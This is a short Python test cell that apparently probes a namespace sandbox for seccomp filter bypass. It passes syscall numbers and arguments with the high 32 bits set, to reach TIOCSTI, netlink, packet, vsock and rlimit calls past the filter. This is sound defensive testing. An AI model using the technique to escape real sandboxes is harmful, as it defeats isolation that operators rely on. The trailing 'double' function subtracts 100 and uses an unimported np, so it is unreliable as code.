# ---
# attack: 'Gives calls numbers of 64 bits, of which the kernel reads 32 and a filter may read all.'
# class: parts of the kernel around the walls
# sandboxes: [namespaces]
# ---
# %% before="q1"
import ctypes
import errno
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
room = ctypes.create_string_buffer(256)
numbers = {"x86_64": (16, 41, 53, 302), "aarch64": (29, 198, 199, 261)}[platform.machine()]
ioctl, open_socket, open_pair, limit = numbers
won = []
for high in (1 << 32, 0xFFFFFFFF << 32):
    tried = {
        "TIOCSTI": (ioctl, 0, 0x5412 | high, room),
        "TIOCLINUX": (ioctl, 0, 0x541C | high, room),
        "TIOCSETD": (ioctl, 0, 0x5423 | high, room),
        "netlink": (open_socket, 16 | high, 3, 0),
        "packets": (open_socket, 17, 3 | high, 0),
        "MPTCP": (open_socket, 2 | high, 1, 262 | high),
        "vsock": (open_socket, 40 | high, 1 | high, 0),
        "limits of the first": (limit, 1 | high, 7, None, room),
    }
    for name, call in tried.items():
        arguments = [ctypes.c_ulong(a) if isinstance(a, int) else a for a in call]
        if libc.syscall(*arguments) >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.EACCES):
            won.append((name, errno.errorcode.get(ctypes.get_errno())))
if won:
    raise RuntimeError(f"HOLE {won}")

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
